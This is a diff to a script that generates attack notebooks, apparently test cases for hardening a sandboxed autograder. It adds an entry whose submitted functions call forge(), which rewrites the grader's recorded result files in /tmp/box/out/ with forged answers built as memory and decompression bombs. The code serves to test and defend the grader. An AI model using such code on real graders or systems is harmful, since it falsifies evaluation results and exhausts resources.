@@ -112,11 +112,50 @@ for entry in os.listdir("/proc"):
         answer("bins_solution", "import time\nfor _ in range(40):\n    time.sleep(0.9)"),
         answer("ppm_solution", STUB),
     ],
+    # A7 (round 2, R2): rewrite the recorded answers after the tests ran (my_bins and my_ppm run again in
+    # later cells): a one-element tensor expanded to millions of rows, a deflated tape that inflates to
+    # 80 MB, and lists that share themselves into a billion items.
+    "a7_forge_tape": [
+        answer("bins_solution", """
+import io, zipfile, torch
+
+def forge():  # keep each taped entry (its label and digest), replace its answer
+    out = "/tmp/box/out/"
+
+    def rewrite(name, value, deflate=False):
+        try:
+            tape = torch.load(out + name, weights_only=True)
+        except Exception:
+            return  # not recorded yet
+        for entry in tape:
+            entry.update(kind="value", value=value)
+        raw = io.BytesIO()
+        torch.save(tape, raw)
+        with zipfile.ZipFile(io.BytesIO(raw.getvalue())) as src, \\
+                zipfile.ZipFile(out + name, "w", zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as dst:
+            for member in src.namelist():
+                dst.writestr(member, src.read(member))
+
+    rewrite("bins_check.pt", torch.zeros(1, dtype=torch.long).expand(3_000_000, 2))
+    rewrite("ppm_check.pt", torch.zeros(20_000_000), deflate=True)
+    level = [0] * 1000
+    for _ in range(3):
+        level = [level] * 1000
+    rewrite("ppm_hidden.pt", level)
+
+def my_bins(length, bins):
+    forge()
+    return [(i * length // bins, -(-(i + 1) * length // bins)) for i in range(bins)]
+"""),
+        answer("ppm_solution", "def my_ppm(x, pooling_sizes=(1, 3, 5)):\n    forge()\n    raise NotImplementedError()"),
+    ],
 }
 
 if __name__ == "__main__":
     here = Path(__file__).parent
     for name, cells in ATTACKS.items():
+        if (here / f"{name}.ipynb").exists():
+            continue  # committed; new cell ids would change them
         nb = nbformat.v4.new_notebook(cells=cells)
         nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
         nbformat.write(nb, here / f"{name}.ipynb")
